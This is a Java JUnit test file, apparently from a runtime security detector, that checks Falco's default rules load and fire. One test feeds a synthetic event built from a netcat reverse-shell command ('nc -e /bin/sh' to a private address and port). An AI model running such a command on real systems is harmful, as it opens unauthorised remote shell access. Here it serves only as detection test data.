package org.tarsier.detector.rules.internal.eval;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.tarsier.detector.rules.internal.load.LoadedRules;
import org.tarsier.detector.rules.internal.load.RuleSource;
import org.tarsier.detector.rules.internal.load.RulesLoader;

/** Loads Falco's stable default ruleset, which the build passes as a system property. */
class FalcoCompatTest {

    private static RuleSet loadFalcoRules() throws Exception {
        String property = System.getProperty("tarsier.compat.falco.rules");
        assertTrue(property != null, "system property tarsier.compat.falco.rules is not set");
        Path file = Path.of(property);
        assertTrue(Files.isRegularFile(file), "Falco rules file not found: " + file);
        LoadedRules loaded = RulesLoader.load(List.of(
                new RuleSource(file.getFileName().toString(), Files.readString(file))));
        return RuleSet.compile(loaded);
    }

    @Test
    void falcoRulesLoad() throws Exception {
        RuleSet rules = loadFalcoRules();
        int compiled = rules.rules().size();
        int skipped = rules.skipped().size();
        Path report = Path.of("target", "falco-compat.txt");
        Files.createDirectories(report.getParent());
        StringBuilder text = new StringBuilder();
        text.append(String.format("falco_rules.yaml: %d of %d rules compiled (%.0f%%)%n",
                compiled, compiled + skipped, 100.0 * compiled / (compiled + skipped)));
        rules.skipped().forEach(s -> text.append("skipped ").append(s).append('\n'));
        rules.notices().forEach(s -> text.append("notice ").append(s).append('\n'));
        Files.writeString(report, text);

        assertEquals(25, compiled + skipped);
        assertTrue(compiled >= 19, text.toString());
    }

    @Test
    void everySkippedRuleNamesItsField() throws Exception {
        RuleSet rules = loadFalcoRules();

        for (String skipped : rules.skipped()) {
            assertTrue(skipped.contains(": unsupported field "), skipped);
        }
    }

    @Test
    void falcoRulesFireOnMatchingEvent() throws Exception {
        Rules rules = Rules.of(List.of(new RuleSource("falco_rules.yaml", Files.readString(
                Path.of(System.getProperty("tarsier.compat.falco.rules"))))));
        List<String> fired = rules.fired(Events.exec(Events.CONTAINER, 10, 1,
                "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"));

        assertFalse(fired.isEmpty(), "no Falco rule fired on nc -e");
    }
}
